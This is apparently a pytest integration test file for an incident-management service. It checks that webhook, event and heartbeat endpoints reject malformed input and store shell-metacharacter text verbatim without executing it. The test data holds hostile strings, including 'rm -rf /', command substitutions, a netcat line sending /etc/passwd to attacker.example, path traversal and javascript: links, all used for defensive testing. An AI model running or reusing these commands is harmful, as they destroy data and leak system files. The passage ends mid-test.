"""The three inbound surfaces over real HTTP: Alertmanager webhooks, PagerDuty-style
events and heartbeat pings, against a real engine and uvicorn on 127.0.0.1.

Every refusal is checked three ways: the exact 4xx, an RFC 9457 body, and a store in
which not one row changed (alerts, alert events, incidents, outbox, heartbeat state,
used idempotency keys). Accepted hostile text is stored verbatim and never executed.
"""

from __future__ import annotations

import asyncio
import json
import uuid
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from opsbook.alerts.model import AlertState
from opsbook.incidents.model import IncidentStatus
from opsbook.store import Store
from tests.integration.engine.harness import eventually
from tests.integration.web.harness import Served, reserve_port, send, serving, store_rows

pytestmark = pytest.mark.asyncio(loop_scope="module")

AM_TOKEN = "am-4f9c2b7e1d0a8c63b5e2a7d1"
EV_TOKEN = "ev-0b1e6a4d9c2f7e3a8b5d1c6e"
WRONG = "xx-0000000000000000000000000"
BACKUP_ID = "3f2c4c1e-8a5b-4d8e-9a0b-2f7f1c2e9d11"  # refused pings aim here
DUMP_ID = "6f1d8c2a-3b4e-4c5d-8e9f-0a1b2c3d4e5f"  # the fail-then-succeed run
UNKNOWN_ID = "00000000-1111-4222-8333-444444444444"
MAX_BODY = 256 * 1024

CONFIG = f"""
project: {{name: shop, timezone: Europe/Berlin}}
services: [{{name: api}}, {{name: database}}, {{name: backups}}, {{name: sandbox}}]
integrations:
  - name: prometheus
    kind: alertmanager
    token: "{AM_TOKEN}"
    service: api
    severity: P2
    severity_map: {{critical: P1, error: P2, warning: P3, info: P4}}
  - name: scripts
    kind: events
    token: "{EV_TOKEN}"
    service: database
    severity: P2
    severity_map: {{critical: P1, error: P2, warning: P3, info: P4}}
heartbeats:
  - {{name: nightly-backup, id: {BACKUP_ID}, period: 1d, grace: 1h, service: backups,
      severity: P2}}
  - {{name: db-dump, id: {DUMP_ID}, period: 1d, grace: 1h, service: backups, severity: P2}}
incidents:
  public_url: "{{public}}"
  reminders: false
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def served(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Served]:
    directory = tmp_path_factory.mktemp("inbound")
    port, public = reserve_port()
    path = directory / "opsbook.yaml"
    path.write_text(CONFIG.replace("{public}", public))
    async with serving(path, port) as server:
        yield server


def now_text(delta: timedelta = timedelta(0)) -> str:
    return (datetime.now(UTC) + delta).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def am_alert(labels: dict[str, Any], **fields: Any) -> dict[str, Any]:
    return {
        "status": "firing",
        "labels": labels,
        "annotations": {"summary": "API Service Down"},
        "startsAt": now_text(-timedelta(minutes=1)),
        "endsAt": "0001-01-01T00:00:00Z",
        **fields,
    }


def am_body(*alerts: dict[str, Any], status: str = "firing", **fields: Any) -> dict[str, Any]:
    return {
        "version": "4",
        "status": status,
        "receiver": "opsbook",
        "groupKey": '{}:{alertname="ApiDown"}',
        "alerts": list(alerts),
        **fields,
    }


GOOD_AM = am_body(am_alert({"alertname": "ApiDown", "severity": "critical"}))


def trigger(dedup_key: str | None = "backup-2026-11-23", **payload: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "event_action": "trigger",
        "payload": {
            "summary": "Backup Failed: pg_dump exited 1",
            "source": "db-backup-01",
            "severity": "critical",
            **payload,
        },
    }
    if dedup_key is not None:
        body["dedup_key"] = dedup_key
    return body


def encode(document: Any) -> bytes:
    return json.dumps(document).encode()


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


async def chunks(size: int, piece: int = 16 * 1024) -> AsyncIterator[bytes]:
    sent = 0
    first = b'{"version": "4", "pad": "'
    yield first
    sent += len(first)
    while sent < size:
        yield b"x" * piece
        sent += piece
    yield b'"}'


@dataclass(frozen=True)
class Case:
    """One refused request: what is sent, the status it must get, and (optionally) a
    piece of the problem detail that says why."""

    id: str
    status: int
    body: bytes | Callable[[], AsyncIterator[bytes]] = b""
    headers: dict[str, str] = field(default_factory=dict)
    path: str = ""
    method: str = "POST"
    detail: str = ""


JSON = {"Content-Type": "application/json"}
AM_AUTH = {"Authorization": f"Bearer {AM_TOKEN}", **JSON}
EV_AUTH = {"Authorization": f"Bearer {EV_TOKEN}", **JSON}
AM_PATH = "/api/v1/inbound/alertmanager/prometheus"
EV_PATH = "/api/v1/inbound/events/scripts"
OVERSIZED = b'{"version": "4", "pad": "' + b"x" * MAX_BODY + b'"}'


def am_with_label(name: str, value: Any) -> bytes:
    return encode(am_body(am_alert({"alertname": "ApiDown", "severity": "critical", name: value})))


def am_starting(starts_at: Any, **fields: Any) -> bytes:
    return encode(am_body(am_alert({"alertname": "ApiDown"}, startsAt=starts_at, **fields)))


ALERTMANAGER_CASES = [
    Case("no-token", 401, encode(GOOD_AM), JSON, detail="missing token"),
    Case("wrong-bearer", 403, encode(GOOD_AM), {"Authorization": f"Bearer {WRONG}", **JSON}),
    Case("wrong-query-token", 403, encode(GOOD_AM), JSON, path=f"{AM_PATH}?token={WRONG}"),
    Case(
        "right-bearer-wrong-query", 403, encode(GOOD_AM), AM_AUTH, path=f"{AM_PATH}?token={WRONG}"
    ),
    Case("basic-scheme", 401, encode(GOOD_AM), {"Authorization": "Basic YTpi", **JSON}),
    Case("empty-bearer", 401, encode(GOOD_AM), {"Authorization": "Bearer ", **JSON}),
    Case("unknown-integration", 404, encode(GOOD_AM), AM_AUTH, "/api/v1/inbound/alertmanager/nope"),
    Case(
        "events-integration",
        404,
        encode(GOOD_AM),
        {"Authorization": f"Bearer {EV_TOKEN}", **JSON},
        "/api/v1/inbound/alertmanager/scripts",
        detail="/api/v1/inbound/events/scripts",
    ),
    Case(
        "encoded-slash-name", 404, encode(GOOD_AM), AM_AUTH, f"{AM_PATH[:-10]}..%2Fevents%2Fscripts"
    ),
    Case("text-plain", 415, encode(GOOD_AM), {**AM_AUTH, "Content-Type": "text/plain"}),
    Case(
        "form", 415, b"version=4", {**AM_AUTH, "Content-Type": "application/x-www-form-urlencoded"}
    ),
    Case(
        "latin1-charset",
        415,
        encode(GOOD_AM),
        {**AM_AUTH, "Content-Type": "application/json; charset=iso-8859-1"},
    ),
    Case("empty-body", 400, b"", AM_AUTH, detail="empty body"),
    Case("whitespace-body", 400, b" \r\n\t ", AM_AUTH, detail="empty body"),
    Case("invalid-json", 400, b'{"version": "4",', AM_AUTH, detail="invalid JSON"),
    Case("json-array", 400, encode([GOOD_AM]), AM_AUTH, detail="got an array"),
    Case("json-string", 400, b'"firing"', AM_AUTH, detail="got a string"),
    Case(
        "duplicate-keys",
        400,
        b'{"version": "4", "status": "firing", "status": "resolved", "alerts": []}',
        AM_AUTH,
        detail="duplicate key",
    ),
    Case("nan", 400, b'{"version": "4", "status": "firing", "alerts": [], "x": NaN}', AM_AUTH),
    Case("infinity", 400, b'{"version": "4", "alerts": [], "x": -Infinity}', AM_AUTH),
    Case("huge-number", 400, b'{"version": "4", "alerts": [], "x": 1' + b"0" * 40 + b"}", AM_AUTH),
    Case("float-overflow", 400, b'{"version": "4", "alerts": [], "x": 1e999}', AM_AUTH),
    Case(
        "deep-nesting",
        400,
        f'{{"version": "4", "alerts": [], "x": {nested(40)}}}'.encode(),
        AM_AUTH,
        detail="nested deeper",
    ),
    Case(
        "very-deep-nesting",
        400,
        f'{{"x": {nested(100_000)}}}'.encode(),
        AM_AUTH,
        detail="nested deeper",
    ),
    Case("not-utf8", 400, b'{"version": "4", "x": "\xff\xfe\xfa"}', AM_AUTH, detail="UTF-8"),
    Case("utf16", 400, '{"version": "4"}'.encode("utf-16"), AM_AUTH),
    Case("unpaired-surrogate", 400, b'{"version": "4", "alerts": [], "x": "\\ud800"}', AM_AUTH),
    Case(
        "raw-nul-byte",
        400,
        am_with_label("instance", "a\x00b").replace(b"\\u0000", b"\x00"),
        AM_AUTH,
    ),
    Case("escaped-nul", 422, am_with_label("instance", "a\x00b"), AM_AUTH, detail="NUL"),
    Case(
        "escape-char-label", 422, am_with_label("instance", "a\x1b[2Jb"), AM_AUTH, detail="control"
    ),
    Case("newline-label", 422, am_with_label("instance", "db-1\nFAKE LOG LINE"), AM_AUTH),
    Case("c1-control-label", 422, am_with_label("instance", "db\x851"), AM_AUTH),
    Case("label-with-dash", 422, am_with_label("bad-name", "x"), AM_AUTH, detail="label name"),
    Case("label-leading-digit", 422, am_with_label("0day", "x"), AM_AUTH, detail="label name"),
    Case("label-non-ascii", 422, am_with_label("sévérité", "x"), AM_AUTH, detail="label name"),
    Case("label-empty-name", 422, am_with_label("", "x"), AM_AUTH, detail="label name"),
    Case("label-shell-name", 422, am_with_label("$(id)", "x"), AM_AUTH, detail="label name"),
    Case("label-name-too-long", 422, am_with_label("a" * 129, "x"), AM_AUTH),
    Case("label-value-too-long", 422, am_with_label("instance", "x" * 1025), AM_AUTH),
    Case("label-value-number", 422, am_with_label("instance", 5), AM_AUTH),
    Case(
        "too-many-labels",
        422,
        encode(am_body(am_alert({f"l{i}": "v" for i in range(65)}))),
        AM_AUTH,
        detail="at most 64",
    ),
    Case(
        "too-many-alerts",
        422,
        encode(am_body(*[am_alert({"alertname": f"A{i}"}) for i in range(1001)])),
        AM_AUTH,
        detail="$.alerts",
    ),
    Case("starts-1969", 422, am_starting("1969-12-31T23:59:59Z"), AM_AUTH, detail="out of range"),
    Case("starts-2200", 422, am_starting("2200-01-01T00:00:00Z"), AM_AUTH, detail="out of range"),
    Case("starts-year-9999", 422, am_starting("9999-12-31T23:59:59Z"), AM_AUTH),
    Case("starts-9999-west", 422, am_starting("9999-12-31T23:59:59-23:59"), AM_AUTH),
    Case("starts-year-1-east", 422, am_starting("0001-01-01T00:00:00+23:59"), AM_AUTH),
    Case("starts-offset-24h", 422, am_starting("2026-11-23T02:00:00+24:00"), AM_AUTH),
    Case("starts-feb-30", 422, am_starting("2026-02-30T10:00:00Z"), AM_AUTH),
    Case("starts-no-offset", 422, am_starting("2026-11-23T02:00:00"), AM_AUTH),
    Case("starts-epoch-number", 422, am_starting(1_700_000_000), AM_AUTH),
    Case(
        "ends-before-starts",
        422,
        am_starting("2026-11-23T02:00:00Z", endsAt="2026-11-23T01:00:00Z", status="resolved"),
        AM_AUTH,
        detail="endsAt",
    ),
    Case("version-3", 422, encode({**GOOD_AM, "version": "3"}), AM_AUTH, detail="$.version"),
    Case("version-number", 422, encode({**GOOD_AM, "version": 4}), AM_AUTH),
    Case("truncated-negative", 422, encode({**GOOD_AM, "truncatedAlerts": -1}), AM_AUTH),
    Case("alerts-missing", 422, encode({"version": "4", "status": "firing"}), AM_AUTH),
    Case("alerts-object", 422, encode({**GOOD_AM, "alerts": {"0": {}}}), AM_AUTH),
    Case(
        "alert-status-unknown",
        422,
        encode(am_body(am_alert({"alertname": "X"}, status="exploded"))),
        AM_AUTH,
    ),
    Case(
        "one-bad-alert-of-three",
        422,
        encode(
            am_body(
                am_alert({"alertname": "Ok1"}),
                am_alert({"alertname": "Ok2"}),
                am_alert({"alertname": "Bad", "bad-name": "x"}),
            )
        ),
        AM_AUTH,
        detail="$.alerts[2]",
    ),
    Case("oversized", 413, OVERSIZED, AM_AUTH),
    Case(
        "oversized-claimed-length",
        413,
        encode(GOOD_AM),
        {**AM_AUTH, "Content-Length": str(MAX_BODY + 1)},
    ),
    Case("oversized-chunked", 413, lambda: chunks(MAX_BODY + 1024), AM_AUTH),
    Case("oversized-unauthenticated", 413, OVERSIZED, JSON),
    Case("idempotency-key-empty", 400, encode(GOOD_AM), {**AM_AUTH, "Idempotency-Key": ""}),
    Case(
        "idempotency-key-too-long",
        400,
        encode(GOOD_AM),
        {**AM_AUTH, "Idempotency-Key": "k" * 201},
        detail="Idempotency-Key",
    ),
]


EVENT_CASES = [
    Case("no-token", 401, encode(trigger()), JSON, detail="missing token"),
    Case("wrong-bearer", 403, encode(trigger()), {"Authorization": f"Bearer {WRONG}", **JSON}),
    Case("wrong-routing-key", 403, encode({**trigger(), "routing_key": WRONG}), JSON),
    Case("wrong-query-token", 403, encode(trigger()), JSON, path=f"{EV_PATH}?token={WRONG}"),
    Case(
        "right-bearer-wrong-routing-key",
        403,
        encode({**trigger(), "routing_key": WRONG}),
        EV_AUTH,
    ),
    Case("bearer-of-other-integration", 403, encode(trigger()), {**AM_AUTH}),
    Case("unknown-integration", 404, encode(trigger()), EV_AUTH, "/api/v1/inbound/events/nope"),
    Case(
        "alertmanager-integration",
        404,
        encode(trigger()),
        AM_AUTH,
        "/api/v1/inbound/events/prometheus",
        detail="/api/v1/inbound/alertmanager/prometheus",
    ),
    Case("text-plain", 415, encode(trigger()), {**EV_AUTH, "Content-Type": "text/plain"}),
    Case("no-content-type", 415, encode(trigger()), {"Authorization": f"Bearer {EV_TOKEN}"}),
    Case("empty-body", 400, b"", EV_AUTH, detail="empty body"),
    Case("invalid-json", 400, b"{'event_action': 'trigger'}", EV_AUTH, detail="invalid JSON"),
    Case("json-array", 400, encode([trigger()]), EV_AUTH, detail="got an array"),
    Case("json-null", 400, b"null", EV_AUTH),
    Case(
        "duplicate-keys",
        400,
        b'{"event_action": "trigger", "event_action": "resolve", "dedup_key": "k"}',
        EV_AUTH,
        detail="duplicate key",
    ),
    Case(
        "duplicate-routing-key",
        400,
        (
            f'{{"event_action": "resolve", "dedup_key": "k", "routing_key": "{EV_TOKEN}", '
            '"routing_key": "x"}'
        ).encode(),
        JSON,
    ),
    Case("nan", 400, b'{"event_action": "resolve", "dedup_key": "k", "n": NaN}', EV_AUTH),
    Case(
        "deep-nesting",
        400,
        f'{{"event_action": "resolve", "dedup_key": "k", "x": {nested(33)}}}'.encode(),
        EV_AUTH,
        detail="nested deeper",
    ),
    Case("not-utf8", 400, b'{"event_action": "trigger\xc3\x28"}', EV_AUTH, detail="UTF-8"),
    Case(
        "missing-dedup-key-ack",
        422,
        encode({"event_action": "acknowledge"}),
        EV_AUTH,
        detail="$.dedup_key",
    ),
    Case(
        "missing-dedup-key-resolve",
        422,
        encode({"event_action": "resolve"}),
        EV_AUTH,
        detail="$.dedup_key",
    ),
    Case("empty-dedup-key", 422, encode({"event_action": "resolve", "dedup_key": ""}), EV_AUTH),
    Case(
        "dedup-key-256", 422, encode({"event_action": "resolve", "dedup_key": "k" * 256}), EV_AUTH
    ),
    Case(
        "dedup-key-newline",
        422,
        encode({"event_action": "resolve", "dedup_key": "k\nFAKE"}),
        EV_AUTH,
        detail="control",
    ),
    Case(
        "unknown-action",
        422,
        encode({**trigger(), "event_action": "escalate"}),
        EV_AUTH,
        detail="$.event_action",
    ),
    Case("action-uppercase", 422, encode({**trigger(), "event_action": "TRIGGER"}), EV_AUTH),
    Case("action-missing", 422, encode({"dedup_key": "k"}), EV_AUTH, detail="$.event_action"),
    Case(
        "trigger-without-payload",
        422,
        encode({"event_action": "trigger"}),
        EV_AUTH,
        detail="$.payload",
    ),
    Case("unknown-severity", 422, encode(trigger(severity="fatal")), EV_AUTH),
    Case(
        "summary-missing",
        422,
        encode({**trigger(), "payload": {"source": "x", "severity": "error"}}),
        EV_AUTH,
    ),
    Case("summary-too-long", 422, encode(trigger(summary="s" * 1025)), EV_AUTH),
    Case("summary-escape", 422, encode(trigger(summary="ok\x1b]0;pwned\x07")), EV_AUTH),
    Case("summary-nul", 422, encode(trigger(summary="a\x00b")), EV_AUTH, detail="NUL"),
    Case("source-nul", 422, encode(trigger(source="db\x00")), EV_AUTH, detail="NUL"),
    Case("source-newline", 422, encode(trigger(source="db\nx")), EV_AUTH),
    Case("source-number", 422, encode(trigger(source=1)), EV_AUTH),
    Case(
        "timestamp-1900",
        422,
        encode(trigger(timestamp="1900-01-01T00:00:00Z")),
        EV_AUTH,
        detail="out of range",
    ),
    Case("timestamp-3000", 422, encode(trigger(timestamp="3000-01-01T00:00:00+01:00")), EV_AUTH),
    Case("timestamp-garbage", 422, encode(trigger(timestamp="yesterday")), EV_AUTH),
    Case(
        "javascript-link",
        422,
        encode({**trigger(), "links": [{"href": "javascript:alert(1)"}]}),
        EV_AUTH,
        detail="$.links[0].href",
    ),
    Case(
        "too-many-links",
        422,
        encode({**trigger(), "links": [{"href": "https://x.example"}] * 21}),
        EV_AUTH,
    ),
    Case(
        "data-image",
        422,
        encode({**trigger(), "images": [{"src": "data:image/png;base64,AA"}]}),
        EV_AUTH,
    ),
    Case(
        "details-too-deep",
        422,
        encode(
            trigger(custom_details={"a": {"b": {"c": {"d": {"e": {"f": {"g": {"h": {"i": 1}}}}}}}}})
        ),
        EV_AUTH,
        detail="custom_details",
    ),
    Case(
        "details-too-many-keys",
        422,
        encode(trigger(custom_details={f"k{i}": i for i in range(201)})),
        EV_AUTH,
    ),
    Case("details-not-object", 422, encode(trigger(custom_details=["x"])), EV_AUTH),
    Case("oversized", 413, b'{"event_action": "' + b"x" * MAX_BODY + b'"}', EV_AUTH),
    Case(
        "oversized-claimed-length",
        413,
        encode(trigger()),
        {**EV_AUTH, "Content-Length": str(10 * MAX_BODY)},
    ),
    Case("oversized-chunked", 413, lambda: chunks(2 * MAX_BODY), EV_AUTH),
]


PING_CASES = [
    Case("unknown-uuid", 404, path=f"/ping/{UNKNOWN_ID}", detail="no heartbeat"),
    Case("unknown-uuid-fail", 404, path=f"/ping/{UNKNOWN_ID}/fail", method="GET"),
    Case("exit-256", 400, path=f"/ping/{BACKUP_ID}/256", detail="0 to 255"),
    Case("exit-negative", 400, path=f"/ping/{BACKUP_ID}/-1"),
    Case("exit-leading-zero", 400, path=f"/ping/{BACKUP_ID}/007"),
    Case("exit-plus", 400, path=f"/ping/{BACKUP_ID}/+1"),
    Case("exit-huge", 400, path=f"/ping/{BACKUP_ID}/99999999999999999999999"),
    Case("not-a-uuid", 404, path="/ping/not-a-uuid", method="GET"),
    Case("uuid-without-dashes", 404, path=f"/ping/{BACKUP_ID.replace('-', '')}"),
    Case("uuid-in-braces", 404, path=f"/ping/%7B{BACKUP_ID}%7D"),
    Case("uuid-one-short", 404, path=f"/ping/{BACKUP_ID[:-1]}"),
    Case("unknown-action", 404, path=f"/ping/{BACKUP_ID}/reboot"),
    Case("shell-action", 404, path=f"/ping/{BACKUP_ID}/%24(id)"),
    Case("extra-segment", 404, path=f"/ping/{BACKUP_ID}/start/now"),
    Case("trailing-slash", 404, path=f"/ping/{BACKUP_ID}/"),
    Case("empty-id", 404, path="/ping/"),
    Case("traversal", 404, path="/ping/..%2F..%2Fetc%2Fpasswd"),
    Case("long-path", 404, path=f"/ping/{BACKUP_ID}/" + "a" * 200),
    Case("put-method", 405, path=f"/ping/{BACKUP_ID}", method="PUT"),
    Case("body-over-10kb", 413, b"x" * 10_001, path=f"/ping/{BACKUP_ID}"),
    Case("body-over-10kb-fail", 413, b"log tail " * 2000, path=f"/ping/{BACKUP_ID}/fail"),
    Case("body-over-10kb-chunked", 413, lambda: chunks(20_000, 4096), path=f"/ping/{BACKUP_ID}/1"),
    Case(
        "body-claimed-length",
        413,
        b"short",
        {"Content-Length": "10001"},
        path=f"/ping/{BACKUP_ID}/fail",
    ),
]


async def refused(served: Served, case: Case, default_path: str) -> dict[str, Any]:
    """Send `case`, check its status and problem body and that no row changed."""
    before = store_rows(served.store)
    alerts_before = served.store.alerts.browse([])
    body = case.body() if callable(case.body) else case.body
    reply = await send(
        case.method, served.url(case.path or default_path), data=body, headers=case.headers
    )
    problem = reply.problem(case.status)
    if case.detail:
        assert case.detail in problem["detail"], problem
    assert store_rows(served.store) == before, f"{case.id} wrote to the store"
    assert served.store.alerts.browse([]) == alerts_before
    return problem


@pytest.mark.parametrize("case", ALERTMANAGER_CASES, ids=lambda c: c.id)
async def test_alertmanager_refusals(served: Served, case: Case) -> None:
    await refused(served, case, AM_PATH)


@pytest.mark.parametrize("case", EVENT_CASES, ids=lambda c: c.id)
async def test_events_refusals(served: Served, case: Case) -> None:
    await refused(served, case, EV_PATH)


@pytest.mark.parametrize("case", PING_CASES, ids=lambda c: c.id)
async def test_ping_refusals(served: Served, case: Case) -> None:
    await refused(served, case, f"/ping/{BACKUP_ID}")


async def test_refusal_names_the_json_path_of_the_bad_label(served: Served) -> None:
    reply = await send(
        "POST", served.url(AM_PATH), data=am_with_label("instance", "a\tb"), headers=AM_AUTH
    )
    problem = reply.problem(422)
    assert problem["path"] == "$.alerts[0].labels.instance", problem
    assert problem["detail"].startswith("$.alerts[0].labels.instance: "), problem


@pytest.mark.parametrize(
    ("path", "body"), [(AM_PATH, encode(GOOD_AM)), (EV_PATH, encode(trigger()))], ids=["am", "ev"]
)
async def test_401_carries_www_authenticate(served: Served, path: str, body: bytes) -> None:
    reply = await send("POST", served.url(path), data=body, headers=JSON)
    reply.problem(401)
    assert reply.headers.get("www-authenticate") == 'Bearer realm="opsbook"', reply.headers


async def test_limits_are_inclusive(served: Served) -> None:
    """Exactly at each documented limit is accepted: 256 KiB of body, 32 levels of
    nesting, 64 labels, 1024-character values, 1000 alerts, the years 1970 and 2199."""
    run = str(uuid.uuid4())
    alerts = [
        am_alert(
            {"alertname": "Edge", "run": run, "n": str(n), "severity": "info"},
            startsAt=("1970-01-01T00:00:00Z", "2199-12-31T23:59:59+0100")[n % 2],
        )
        for n in range(998)
    ]
    wide = {f"l{i}": "v" for i in range(61)} | {"alertname": "Wide", "run": run, "severity": "info"}
    alerts.append(am_alert(wide))
    alerts.append(am_alert({"alertname": "Long", "run": run, "v": "x" * 1024, "severity": "info"}))
    document = am_body(*alerts)
    document["deep"] = json.loads(nested(31))  # the body object is level 1
    text = encode(document)
    text += b" " * (MAX_BODY - len(text))
    assert len(text) == MAX_BODY
    reply = await send("POST", served.url(AM_PATH), data=text, headers=AM_AUTH)
    assert reply.status == 200, reply.text
    assert reply.json() == {"status": "success", "alerts": 1000}
    assert len(stored(served.store, run=run)) == 1000


async def test_sender_cannot_claim_another_integration(served: Served) -> None:
    labels = {"alertname": "Claim", "integration": "scripts", "severity": "info"}
    reply = await send(
        "POST", served.url(AM_PATH), data=encode(am_body(am_alert(labels))), headers=AM_AUTH
    )
    assert reply.status == 200, reply.text
    [alert] = stored(served.store, alertname="Claim")
    assert alert.labels["integration"] == "prometheus" and alert.rule == "inbound:prometheus"


# -- accepted hostile text -------------------------------------------------------------------

SHELL_LABELS = {
    "cmd": "; rm -rf / ; touch {marker}/semicolon",
    "sub": "$(touch {marker}/dollar)",
    "tick": "`touch {marker}/backtick`",
    "quotes": "'\"' && echo \"$HOME\" || true '",
    "pipe": "| nc attacker.example 4444 < /etc/passwd &",
    "glob": "* ?[a-z] ~root {{a,b}} > /dev/null 2>&1",
}
SHELL_TEXT = "line one\n$(touch {marker}/summary)\n`id`; rm -rf /\r\n\t'\"end"


def marked(text: str, marker: Path) -> str:
    return text.replace("{marker}", str(marker))


def stored(store: Store, **labels: str) -> list[Any]:
    return [
        alert
        for alert, _ in store.alerts.browse([])
        if all(alert.labels.get(k) == v for k, v in labels.items())
    ]


async def test_shell_metacharacters_in_alertmanager_labels_are_stored_verbatim(
    served: Served, tmp_path: Path
) -> None:
    labels = {k: marked(v, tmp_path) for k, v in SHELL_LABELS.items()}
    labels |= {"alertname": "ShellLabels", "severity": "warning", "service": "sandbox"}
    annotations = {"summary": marked(SHELL_TEXT, tmp_path), "description": "$(id) `id`"}
    body = am_body(am_alert(labels, annotations=annotations))
    reply = await send("POST", served.url(AM_PATH), data=encode(body), headers=AM_AUTH)
    assert reply.status == 200, reply.text
    assert reply.json() == {"status": "success", "alerts": 1}

    [alert] = stored(served.store, alertname="ShellLabels")
    for name, value in labels.items():
        if name != "severity":
            assert alert.labels[name] == value, name
    assert alert.labels["severity"] == "P3"  # warning, through severity_map
    assert dict(alert.annotations) == annotations
    assert list(tmp_path.iterdir()) == [], "something was executed"


async def test_shell_metacharacters_in_events_are_stored_verbatim(
    served: Served, tmp_path: Path
) -> None:
    source = marked(SHELL_LABELS["sub"], tmp_path)
    dedup_key = marked(SHELL_LABELS["cmd"], tmp_path)
    summary = marked(SHELL_TEXT, tmp_path)
    body = trigger(
        dedup_key,
        summary=summary,
        source=source,
        severity="warning",
        component=marked(SHELL_LABELS["tick"], tmp_path),
        group=SHELL_LABELS["quotes"],
        custom_details={"cmd": "$(reboot)", "nested": {"x": "`halt`"}},
    )
    reply = await send("POST", served.url(EV_PATH), data=encode(body), headers=EV_AUTH)
    assert reply.status == 202, reply.text
    assert reply.json() == {
        "status": "success",
        "message": "Event processed",
        "dedup_key": dedup_key,
    }

    [alert] = stored(served.store, dedup_key=dedup_key)
    assert alert.labels["source"] == source
    assert alert.labels["component"] == body["payload"]["component"]
    assert alert.labels["group"] == SHELL_LABELS["quotes"]
    assert alert.annotations["summary"] == summary
    assert json.loads(alert.annotations["custom_details"]) == body["payload"]["custom_details"]
    assert list(tmp_path.iterdir()) == [], "something was executed"


# -- happy paths -----------------------------------------------------------------------------


async def test_alertmanager_firing_then_resolved_opens_then_calms_an_incident(
    served: Served,
) -> None:
    labels = {"alertname": "ApiDown", "severity": "critical", "instance": "api-1:8000"}
    firing = am_alert(labels, annotations={"summary": "API Service Down"})
    reply = await send("POST", served.url(AM_PATH), data=encode(am_body(firing)), headers=AM_AUTH)
    assert reply.status == 200, reply.text
    assert reply.json() == {"status": "success", "alerts": 1}

    [alert] = stored(served.store, alertname="ApiDown", instance="api-1:8000")
    assert alert.state is AlertState.FIRING
    assert alert.labels["severity"] == "P1" and alert.labels["service"] == "api"
    assert alert.labels["integration"] == "prometheus" and alert.rule == "inbound:prometheus"
    [incident] = [i for i in served.store.incidents.list(status="open") if "api" in i.services]
    assert incident.severity == "P1"
    assert incident.status is IncidentStatus.INVESTIGATING
    assert incident.alerts == (alert.fingerprint,)

    # The same alert resolved, with the sender's token in the query string this time.
    ended = datetime.now(UTC).replace(microsecond=0)
    resolved = {**firing, "status": "resolved", "endsAt": ended.isoformat()}
    reply = await send(
        "POST",
        served.url(f"{AM_PATH}?token={AM_TOKEN}"),
        data=encode(am_body(resolved, status="resolved")),
        headers=JSON,
    )
    assert reply.status == 200, reply.text
    [alert] = stored(served.store, alertname="ApiDown", instance="api-1:8000")
    assert alert.state is AlertState.RESOLVED and alert.resolved_at == ended
    calmed = served.store.incidents.get(incident.id)
    assert calmed is not None and calmed.status is IncidentStatus.MONITORING


async def test_events_trigger_acknowledge_resolve(served: Served) -> None:
    key = f"backup-{uuid.uuid4()}"
    fired_at = "2026-12-06T02:04:11+01:00"
    body = trigger(key, timestamp=fired_at, component="postgres", group="backups")
    body["links"] = [{"href": "https://grafana.example.com/d/backups", "text": "Backups"}]
    reply = await send("POST", served.url(EV_PATH), data=encode(body), headers=EV_AUTH)
    assert reply.status == 202, reply.text
    assert reply.json() == {"status": "success", "message": "Event processed", "dedup_key": key}

    [alert] = stored(served.store, dedup_key=key)
    assert alert.state is AlertState.FIRING
    assert alert.fired_at == datetime(2026, 12, 6, 1, 4, 11, tzinfo=UTC)
    assert alert.labels["severity"] == "P1" and alert.labels["service"] == "database"
    assert alert.labels["integration"] == "scripts" and alert.labels["component"] == "postgres"
    [incident] = served.store.incidents.list(status="open", service="database")
    assert incident.severity == "P1" and incident.acknowledged_at is None

    # acknowledge with the token as PagerDuty senders send it: the body's routing_key.
    ack = {"event_action": "acknowledge", "dedup_key": key, "routing_key": EV_TOKEN}
    reply = await send("POST", served.url(EV_PATH), data=encode(ack), headers=JSON)
    assert reply.status == 202, reply.text
    assert reply.json()["dedup_key"] == key
    acked = served.store.incidents.get(incident.id)
    assert acked is not None and acked.acknowledged_by == "integration:scripts"
    assert stored(served.store, dedup_key=key)[0].state is AlertState.FIRING

    resolve = {"event_action": "resolve", "dedup_key": key}
    reply = await send("POST", served.url(EV_PATH), data=encode(resolve), headers=EV_AUTH)
    assert reply.status == 202, reply.text
    [alert] = stored(served.store, dedup_key=key)
    assert alert.state is AlertState.RESOLVED and alert.resolved_at is not None
    calmed = served.store.incidents.get(incident.id)
    assert calmed is not None and calmed.status is IncidentStatus.MONITORING


async def test_trigger_without_dedup_key_derives_a_stable_one(served: Served) -> None:
    body = trigger(None, summary=f"disk full {uuid.uuid4()}", severity="info")
    first = await send("POST", served.url(EV_PATH), data=encode(body), headers=EV_AUTH)
    again = await send("POST", served.url(EV_PATH), data=encode(body), headers=EV_AUTH)
    assert first.status == again.status == 202, (first.text, again.text)
    key = first.json()["dedup_key"]
    assert key == again.json()["dedup_key"] and len(key) == 32 and int(key, 16) >= 0
    assert len(stored(served.store, dedup_key=key)) == 1


async def test_replayed_idempotency_key_is_409_and_writes_nothing(served: Served) -> None:
    headers = {**EV_AUTH, "Idempotency-Key": f"retry-{uuid.uuid4()}"}
    body = encode(trigger(f"replay-{uuid.uuid4()}", severity="info"))
    first = await send("POST", served.url(EV_PATH), data=body, headers=headers)
    assert first.status == 202, first.text
    before = store_rows(served.store)
    second = await send("POST", served.url(EV_PATH), data=body, headers=headers)
    assert "already used" in second.problem(409)["detail"]
    assert store_rows(served.store) == before

    # The key is the sender's: the same key on another body is still a replay.
    other = encode(trigger(f"other-{uuid.uuid4()}", severity="info"))
    third = await send("POST", served.url(EV_PATH), data=other, headers=headers)
    third.problem(409)
    assert store_rows(served.store) == before


async def test_replayed_alertmanager_request_is_409(served: Served) -> None:
    key = f"am-{uuid.uuid4()}"
    body = encode(am_body(am_alert({"alertname": "Replay", "severity": "info", "run": key})))
    headers = {**AM_AUTH, "Idempotency-Key": key}
    first = await send("POST", served.url(AM_PATH), data=body, headers=headers)
    assert first.status == 200, first.text
    before = store_rows(served.store)
    second = await send("POST", served.url(AM_PATH), data=body, headers=headers)
    second.problem(409)
    assert store_rows(served.store) == before


async def test_refused_request_does_not_use_up_its_idempotency_key(served: Served) -> None:
    key = f"retry-{uuid.uuid4()}"
    body = encode(trigger(f"late-{uuid.uuid4()}", severity="info"))
